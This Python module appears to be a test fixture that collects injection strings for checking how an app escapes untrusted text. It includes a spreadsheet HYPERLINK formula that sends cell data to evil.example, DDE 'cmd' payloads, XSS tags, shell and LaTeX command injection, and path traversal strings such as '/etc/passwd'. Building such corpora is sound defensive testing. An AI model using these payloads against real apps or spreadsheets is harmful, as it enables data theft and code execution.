"""Texts that try to leave their place: one set for every place where a stranger's text goes."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "a;=1+1;b",
    "a\n=1+1",
    "a\t=1+1",
    "'=1+1",
    "-2A",
)
"""What a spreadsheet would compute, send off or run."""

LINKS = (
    "http://evil.example",
    "HTTPS://evil.example/x_y",
    "www.evil.example",
    "a@evil.example",
    "mailto:a@evil.example",
    "![x](http://evil.example/i.png)",
    "[a](javascript:alert(1))",
    "<http://evil.example>",
    "x (https://evil.example)",
    "http://user:pass@evil.example:80/",
)
"""What would become a link or a request in Markdown."""

MARKDOWN = (
    ":material/home:",
    ":red[x]",
    ":red-background[x]",
    ":small[x]",
    ":smile:",
    ":100:",
    ":+1:",
    ":streamlit:",
    ":green-badge[x]",
    ":shortcut[x]",
    "$x^2$",
    "$$x$$",
    "**b** __b__ *i* _i_ ~~s~~ `c`",
    "&lt;b&gt; &amp; &copy;",
    "# h",
    "- l",
    "+ l",
    "1. l",
    "2) l",
    "> q",
    "    code",
    "```\ncode",
    "a\n---",
    "a\n\n# h",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a  \nb\\\nc",
    "[^1]",
    "-> <- -- <-> >= <= ~=",
    "<b>x</b>",
    "<!-- x -->",
)
"""What Markdown, as Streamlit reads it, would show as something else."""

CODE = (
    'a"; import os',
    "a'; import os; os.system('touch x')#",
    "$(touch x)",
    "`touch x`",
    "; quit",
    "a\nquit\n",
    "python end\nimport os",
    "\\",
    "@TITLE@ @DATA@ @CHAIN@",
    "{0.__class__} {name} %s %(x)s",
    "\\input{/etc/passwd} \\write18{x} $\\frac{1}{2}$ }{",
)
"""What another program would run or fill in."""

MARKUP = (
    "</script><script>document.title='broken'</script>",
    "<img src=x onerror=alert(1)>",
    "\"' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<b>bold</b><br><a href='http://evil.example'>x</a>",
    "&lt;script&gt;",
    "]]><x/>",
)
"""What HTML, SVG or Plotly would take for tags."""

SIGNS = (
    "\u202eevil\u202c",
    "a\0b",
    "\x1b[31mred\x1b]0;title\x07",
    "a\u2028b\u2029c",
    "\ufeffx\u200b",
    "x" * 5_000,
    "🧬" * 300,
)
"""What steers a screen, or has no end."""

PATHS = ("../../x", "..\\..\\x", "/etc/passwd", "CON", "con.txt", "a/b", ".hidden", "-rf", "a:b")
"""What is a path, or no name of a file somewhere."""

TEXTS = (*FORMULAS, *LINKS, *MARKDOWN, *CODE, *MARKUP, *SIGNS, *PATHS)

GROUPS = tuple(" ".join(TEXTS[place : place + 8]) for place in range(0, len(TEXTS), 8))
"""All of them in a few, for what takes long."""
